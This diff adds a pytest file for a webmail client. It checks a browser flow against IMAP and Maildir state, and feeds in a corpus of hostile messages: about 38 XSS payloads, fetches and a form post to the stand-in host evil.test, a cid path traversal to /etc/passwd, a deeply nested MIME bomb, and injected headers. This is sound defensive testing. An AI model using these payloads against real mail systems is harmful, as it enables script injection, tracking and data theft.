@@ -1,0 +1,220 @@
+"""The webmail in headless Chromium (Debian's chromium, driven by
+playwright-core from tests/webmail/setup): the whole flow on a desktop and
+a 360-pixel phone with screenshots kept in the test's directory
+(webmail-shots/), the sent reply found delivered, what was moved and
+deleted found in the Maildir and seen the same through the IMAP server
+(folders, UIDs, flags), and a corpus of hostile
+messages each opened with a check that no script ran and nothing was
+fetched from outside the page's origin."""
+import base64
+import json
+import os
+import shutil
+import subprocess
+import time
+
+import pytest
+
+import html
+import imaplib
+import re
+
+from conftest import SRC
+from imaputil import Imap
+from webmailutil import PASSWORD, USER, Client, Webmail
+
+NODE = shutil.which("node")
+JS = os.path.join(SRC, "tests", "webmail", "browser.js")
+
+
+def setup_playwright():
+    if NODE is None or not os.path.exists("/usr/bin/chromium"):
+        pytest.skip("node or chromium missing")
+    subprocess.run([os.path.join(SRC, "tests", "webmail", "setup")],
+                   check=True, timeout=600)
+
+
+def run_browser(wm, out, mode, uids=()):
+    p = subprocess.run([NODE, JS, "http://127.0.0.1:%d" % wm.port, USER, PASSWORD, out,
+                        mode] + [str(u) for u in uids],
+                       capture_output=True, text=True, timeout=900)
+    lines = [l for l in p.stdout.splitlines() if l.startswith("{")]
+    assert lines, p.stdout + p.stderr
+    return json.loads(lines[-1])
+
+
+@pytest.fixture
+def wm(instance, procs, tmp_path):
+    return Webmail(instance, procs, tmp_path)
+
+
+def shots_dir(tmp_path):
+    d = os.environ.get("HSMAIL_WEBMAIL_SHOTS") or os.path.join(
+        str(tmp_path), "webmail-shots")
+    os.makedirs(d, exist_ok=True)
+    return d
+
+
+def test_browser_flow(wm, tmp_path):
+    setup_playwright()
+    wm.deliver(b"From: Ann Example <ann@example.test>\n"
+               b"To: demo@example.test\nSubject: Welcome to your webmail\n"
+               b"Message-ID: <w1@example.test>\n\n"
+               b"Hello,\n\nthis is your new mailbox.\n> quoted line\n"
+               b"Visit https://example.test/help for help.\n")
+    for i in range(12):
+        wm.deliver(b"From: News %d <news%d@example.test>\nTo: demo@example"
+                   b".test\nSubject: Newsletter number %d\n\nText %d\n" %
+                   (i, i, i, i))
+    res = run_browser(wm, shots_dir(tmp_path), "flow")
+    assert not res["fail"], res["fail"]
+    # The replies went out through qmail-inject: both end in Sent.
+    sent = os.path.join(wm.maildir(), ".Sent", "cur")
+    assert len(os.listdir(sent)) == 2
+    # What was moved and deleted in the browser, in the Maildir.
+    def subjects(folder):
+        d = os.path.join(wm.maildir(), folder, "cur")
+        out = []
+        for n in os.listdir(d) if os.path.isdir(d) else []:
+            for line in open(os.path.join(d, n), "rb"):
+                if line.startswith(b"Subject: "):
+                    out.append(line[9:].strip().decode())
+                    break
+        return sorted(out)
+    assert subjects(".Archive") == ["Newsletter number 1",
+                                    "Newsletter number 3"]
+    assert subjects(".Trash") == ["Newsletter number 2",
+                                  "Newsletter number 4"]
+    assert not any(s in subjects("") for s in
+                   ("Newsletter number %d" % i for i in range(1, 5)))
+    # The same mailbox through IMAP: the folders, and in each the same
+    # messages with the same UIDs and flags as the webmail shows.
+    imap = Imap(wm.i, wm.procs)
+    c = imaplib.IMAP4("127.0.0.1", imap.start(), timeout=60)
+    c.login(USER, PASSWORD)
+    typ, boxes = c.list()
+    names = {b.decode().rsplit(' "." ', 1)[-1].strip('"') for b in boxes}
+    assert {"INBOX", "INBOX.Archive", "INBOX.Trash", "INBOX.Sent",
+            "INBOX.Drafts", "INBOX.Junk"} <= names, names
+    web = Client(wm)
+    web.login()
+    for folder in ("INBOX", "INBOX.Archive", "INBOX.Trash", "INBOX.Sent"):
+        c.select(folder, readonly=True)
+        typ, data = c.uid("FETCH", "1:*", "(UID FLAGS BODY.PEEK[HEADER."
+                          "FIELDS (SUBJECT)])")
+        by_imap = set()
+        for item in data:
+            if not isinstance(item, tuple):
+                continue
+            meta = item[0].decode()
+            uid = re.search(r"UID (\d+)", meta).group(1)
+            flags = re.search(r"FLAGS \(([^)]*)\)", meta).group(1).split()
+            subj = item[1].decode().split(":", 1)[1].strip()
+            by_imap.add((uid, subj, "\\Seen" in flags,
+                         "\\Answered" in flags, "\\Flagged" in flags))
+        r, page = web.get("/webmail/list?f=" + folder)
+        by_web = set()
+        for m in re.finditer(r'<li class="msg([^"]*)">(.*?)</li>', page,
+                             re.S):
+            cls, row = m.group(1), m.group(2)
+            uid = re.search(r"[?&](?:amp;)?[ud]=(\d+)", row).group(1)
+            subj = html.unescape(re.search(r'<span class="subj">([^<]*)'
+                                           r'</span>', row).group(1))
+            by_web.add((uid, subj, "unread" not in cls, "answered" in cls,
+                        "flagged" in cls))
+        assert by_web == by_imap, (folder, by_web ^ by_imap)
+        assert by_web, folder
+    c.logout()
+
+
+def hostile_corpus():
+    """At least 40 messages built to run script or fetch something."""
+    h = []
+    html_bodies = [
+        "<script>window.__pwned=1;document.title='pwned'</script>",
+        "<img src=x onerror=\"document.title='pwned'\">",
+        "<svg onload=\"document.title='pwned'\"></svg>",
+        "<svg><script>document.title='pwned'</script></svg>",
+        "<body onload=\"document.title='pwned'\">x</body>",
+        "<iframe src=\"javascript:parent.document.title='pwned'\"></iframe>",
+        "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\">",
+        "<a href=\"javascript:document.title='pwned'\">click</a>",
+        "<a href=\"java&#x09;script:alert(1)\">x</a>",
+        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
+        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.test/\">",
+        "<base href=\"http://evil.test/\"><img src=\"x.png\">",
+        "<img src=\"http://evil.test/pixel.gif\">",
+        "<img srcset=\"http://evil.test/a.png 1x\">",
+        "<div style=\"background:url(http://evil.test/bg)\">bg</div>",
+        "<style>@import url(http://evil.test/x.css);</style>",
+        "<style>body{background:url(http://evil.test/b)}</style>",
+        "<link rel=stylesheet href=\"http://evil.test/s.css\">",
+        "<div style=\"width:expression(alert(1))\">ie</div>",
+        "<svg><filter><feImage href=\"http://evil.test/f\"/></filter></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror="
+        "alert(1)></style></mglyph></table></mtext></math>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<form action=\"http://evil.test/\"><input name=p>"
+        "<button>go</button></form>",
+        "<video poster=\"http://evil.test/p.jpg\"></video>",
+        "<audio src=\"http://evil.test/a.mp3\" autoplay></audio>",
+        "<table background=\"http://evil.test/t.png\"><tr><td>t</td></tr>"
+        "</table>",
+        "<input type=image src=\"http://evil.test/i\">",
+        "<isindex action=javascript:alert(1) type=image>",
+        "<details open ontoggle=\"document.title='pwned'\">d</details>",
+        "<marquee onstart=\"document.title='pwned'\">m</marquee>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\""
+        ">d</a>",
+        "<img src=\"cid:../../../../etc/passwd\">",
+        "<p style=\"color:red;-moz-binding:url(http://evil.test/x.xml)\">p</p>",
+        "<div style=\"background-image:image-set('http://evil.test/i' 1x)\">"
+        "</div>",
+        "<x-foo onclick=alert(1)>custom</x-foo><template><script>alert(1)"
+        "</script></template>",
+        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+        "<p title=\"`\" onmouseover=alert(1)>q</p>",
+    ]
+    for i, b in enumerate(html_bodies):
+        h.append(("Subject: hostile html %d\nContent-Type: text/html; "
+                  "charset=utf-8\n\n<html><body>%s</body></html>\n" %
+                  (i, b)).encode())
+    # Header and text attacks, broken MIME, charsets, NUL bytes.
+    h.append(b"Subject: <script>document.title='pwned'</script>\n"
+             b"From: \"<img src=x onerror=alert(1)>\" <x@e.test>\n\nbody\n")
+    h.append(b"Subject: =?UTF-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=\n\n"
+             b"encoded subject\n")
+    h.append(b"Subject: text with markup\n\n<script>alert(1)</script>\n"
+             b"javascript:alert(1)\n")
+    h.append(b"Subject: nul\x00bytes\n\nbody \x00 with NUL \x00\n")
+    h.append(b"Subject: bad mime\nContent-Type: multipart/mixed; "
+             b"boundary=\"b\"\n\n--b\nContent-Type: text/html\n\n"
+             b"<script>alert(1)</script>\n--b")
+    h.append(b"Subject: nested\nContent-Type: multipart/mixed; boundary=a\n\n"
+             + b"".join(b"--a\nContent-Type: multipart/mixed; boundary=a\n\n"
+                        for _ in range(10000)) + b"x\n")
+    h.append(b"Subject: charset\nContent-Type: text/html; charset="
+             b"x-unknown-evil\n\n<img src=x onerror=alert(1)>\xff\xfe\n")
+    h.append(b"Subject: utf7\nContent-Type: text/html; charset=utf-7\n\n"
+             b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n")
+    h.append(b"Subject: svg attachment\nContent-Type: multipart/mixed; "
+             b"boundary=z\n\n--z\nContent-Type: text/plain\n\nsee\n--z\n"
+             b"Content-Type: image/svg+xml\nContent-Disposition: inline; "
+             b"filename=\"a\\\"><script>alert(1)</script>.svg\"\n\n"
+             b"<svg onload=alert(1)/>\n--z--\n")
+    return h
+
+
+def test_hostile_corpus(wm, tmp_path):
+    setup_playwright()
+    corpus = hostile_corpus()
+    assert len(corpus) >= 40
+    for raw in corpus:
+        wm.deliver(b"From: attacker@evil.test\nTo: demo@example.test\n" +
+                   raw if not raw.startswith(b"Subject: <script") else raw)
+    uids = list(range(1, len(corpus) + 1))
+    # The list page is hostile too: every subject and sender on it.
+    res = run_browser(wm, shots_dir(tmp_path), "hostile", uids)
+    assert not res["fail"], res["fail"]
+    assert sum(1 for x in res["ok"] if x.endswith("no script")) == len(uids)
